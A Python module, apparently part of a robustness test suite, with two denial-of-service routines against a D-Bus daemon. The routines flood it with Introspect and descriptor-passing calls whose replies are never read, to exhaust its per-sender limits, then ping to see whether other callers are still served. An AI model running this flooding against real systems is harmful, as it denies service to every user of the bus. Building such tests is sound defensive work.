# SPDX-License-Identifier: Apache-2.0
"""Callers who ask and never read. dbus-daemon keeps what they do not read, counts it against who sent it, and reads
nothing more from a daemon of whose messages 127 MiB, or 64 descriptors, lie there: a few callers silence it for all."""
import contextlib

from attack import attack
from half_done import _beginnings, _own
from raw_bus import CALL, Closed, call_fields, message

CONNECTIONS, ROUNDS, AT_A_TIME = 16, 12, 100
SOCKET_FULL = 60  # introspections


def introspections(target, attacker, count):
    """So many calls, in one piece, that each have a long answer and need no right."""
    fields = call_fields("org.freedesktop.DBus.Introspectable", "Introspect", "", 0, target.to)
    return b"".join(message(CALL, attacker.next_serial(), fields) for _ in range(count))


def sent(attacker, data):
    """Whether the bus took it: it may stop reading from, or hang up on, who does not read."""
    attacker._socket.settimeout(5)
    with contextlib.suppress(TimeoutError, Closed):
        attacker.send(data)
        return True
    return False


@attack
def long_answers_that_nobody_reads(target):
    """20,000 introspections on sixteen connections that read nothing; others are served all the time."""
    with contextlib.ExitStack() as stack:
        attackers = [stack.enter_context(target.connect()) for _ in range(CONNECTIONS)]
        for _ in range(ROUNDS):
            attackers = [each for each in attackers if sent(each, introspections(target, each, AT_A_TIME))]
            target.ping()


@attack
def descriptors_that_are_handed_out_and_nobody_reads(target):
    """Everything that can be begun, a hundred times by each user on a connection whose socket is full."""
    with contextlib.ExitStack() as stack:
        for user in target.users:
            attacker = stack.enter_context(target.connect(user))
            sent(attacker, introspections(target, attacker, SOCKET_FULL))
            for _ in range(100 // max(1, len(_beginnings(target)))):
                for method in _beginnings(target):
                    sent(attacker, target.call(attacker.next_serial(), method, _own(target, method)))
            target.ping()
